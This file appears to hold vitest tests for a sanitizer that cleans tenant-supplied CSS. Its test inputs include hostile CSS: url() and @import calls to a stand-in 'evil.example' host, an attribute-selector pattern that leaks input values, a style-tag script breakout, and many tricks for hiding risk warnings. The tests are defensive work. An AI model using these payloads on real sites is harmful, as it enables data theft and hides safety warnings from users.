import { describe, expect, it } from 'vitest';
import { customization } from '#contract/customization.ts';
import { cleanTenantCss, judgeTenantCss, tenantStylesheet } from './tenant-css.server.ts';

describe('cleanTenantCss', () => {
  it('keeps what styles the tenant’s pages', () => {
    expect(cleanTenantCss('.card { color: red } @media (width > 600px) { .card { color: blue } }')).toContain(
      '.card{color:red}',
    );
    expect(cleanTenantCss('header{background:url(/tenants/aurora/cover.svg)}')).toContain('/tenants/aurora/cover.svg');
    expect(cleanTenantCss(':root{--lj-accent:#123456}')).toContain('--lj-accent:#123456');
  });

  it('lets nothing in from elsewhere', () => {
    const css = `@import url("https://evil.example/a.css"); @import "//evil.example/b.css"; @namespace url(http://evil.example);
      @font-face { font-family: x; src: url(https://evil.example/x.woff2) }
      .a { background: url(https://evil.example/p.png) } .b { background: url("//evil.example/p.png") }
      .c { background-image: image-set("https://evil.example/q.png" 1x) } .d { cursor: url(\\68ttps://evil.example/c.cur), auto }
      input[value^="a"] { background: url(https://evil.example/?a) } .e { --x: url(https://evil.example/y) }`;
    expect(cleanTenantCss(css)).not.toContain('evil.example');
  });

  it('touches no risk warning, no focus ring and no token of theirs', () => {
    const css = `.risk-warning { display: none } [class*="risk"] { opacity: 0 } :focus-visible { outline: none } a { outline: 0 !important }
      [data-protected] { color: #fff } :root { --lj-focus: #fff; --lj-caution: #fff } @layer lj-protected { * { outline: none !important } }
      .impersonation { display: none } div:has(.x) { display: none }`;
    expect(cleanTenantCss(css).trim()).toBe('');
  });

  it('is empty for what is no css, and never throws', () => {
    for (const css of [
      '',
      '   ',
      '}}}}',
      '</style><script>alert(1)</script>',
      '{',
      '@media',
      '\0',
      'a{'.repeat(5000),
    ]) {
      expect(cleanTenantCss(css)).not.toContain('<script');
    }
  });
});

describe('judgeTenantCss', () => {
  const left = (css: string) => judgeTenantCss(css).leftOut;

  it('serves nothing that could hide a warning, whatever the way', () => {
    const ways = [
      'main{display:none}',
      'MAIN{DISPLAY:NONE}',
      '@scope (.a){:scope{display:none}}',
      '@scope{main{opacity:0}}',
      'body>div:nth-child(1){opacity:0}',
      '*{font-size:0}',
      '*{height:0;overflow:hidden}',
      'main{animation:x 1s forwards} @keyframes x{to{opacity:0}}',
      '@starting-style{main{opacity:0}}',
      'h1,main{display:none}',
      'h1 main{display:none}',
      ':is(main){display:none}',
      ':not(h1){display:none}',
      '.x{&{display:none}}',
      'h1{main &{display:none} & + div{display:none}}',
      '@media screen{.x{@media print{display:none}}}',
      'main{-webkit-mask:linear-gradient(#0000,#0000)}',
      'main{position:fixed;inset:auto auto -9999px -9999px}',
      'body::after{content:"";position:fixed;inset:0;background:#fff}',
      'h2{margin-top:-900px}',
      'h2{margin-top:calc(1% - 900px)}',
      'h2{margin:var(--m)}',
      'h2{transform:translateY(-900px)}',
      'header{box-shadow:0 0 0 9999px #fff}',
      ':root{--lj-ink:#fff;--lj-paper:#fff}',
      'p{-webkit-text-fill-color:transparent}',
      'p{all:unset}',
      'main{opacity:var(--o)}',
      'main{zoom:0}',
      'main{content-visibility:hidden}',
      'body{background:#16201c}',
      '@font-face{font-family:x;src:url(/blank.woff2)}',
      '@layer a{main{display:none}}',
      '@container (width>1px){main{display:none}}',
    ];
    for (const css of ways) {
      // A rule that only holds others may stand there empty.
      expect([
        css,
        cleanTenantCss(css)
          .replace(/@[^{}]*\{\}/g, '')
          .trim(),
      ]).toEqual([css, '']);
      expect([css, left(css).length > 0]).toEqual([css, true]);
    }
  });

  it('tells each part that is left out with its line, its name and why, and serves the rest', () => {
    const css =
      'h1 { color: red }\nmain {\n  color: green;\n  display: none }\n@keyframes a { to { opacity: 0 } }\nh2 { background: url(//evil.example/a) }';
    expect(judgeTenantCss(css)).toEqual({
      css: 'h1{color:red}main{color:green}',
      leftOut: [
        { line: 2, name: 'display', why: 'hides' },
        { line: 5, name: '@keyframes', why: 'rule' },
        { line: 6, name: 'background', why: 'address' },
      ],
    });
  });

  it('says that nothing is left out of css that only dresses', () => {
    for (const css of [
      'h1, h2 { letter-spacing: -0.015em; }\n::selection { background: #f3d3c6; color: #3a1509; }',
      '@media (width > 600px) { h1 { font-size: 3rem } img { border-radius: 0; max-width: 400px } }',
      'footer { background: #eee; border-top: 1px solid red; padding: 2rem }',
      '',
    ])
      expect([css, left(css)]).toEqual([css, []]);
  });

  it('says of css that is none, or nests deeper than anybody writes, that it is left out', () => {
    expect(left('a{'.repeat(5000))).toEqual([{ line: 1, name: '', why: 'deep' }]);
    expect(left('h1 { color: red; ;;; color }').map(({ why }) => why)).toContain('broken');
  });
});

it('a stylesheet’s address changes with what is in it', () => {
  const one = tenantStylesheet(customization.parse({}));
  const two = tenantStylesheet(customization.parse({ css: '.x{color:red}' }));
  expect(one.hash).not.toBe(two.hash);
  expect(two.css).toContain('--lj-accent');
});
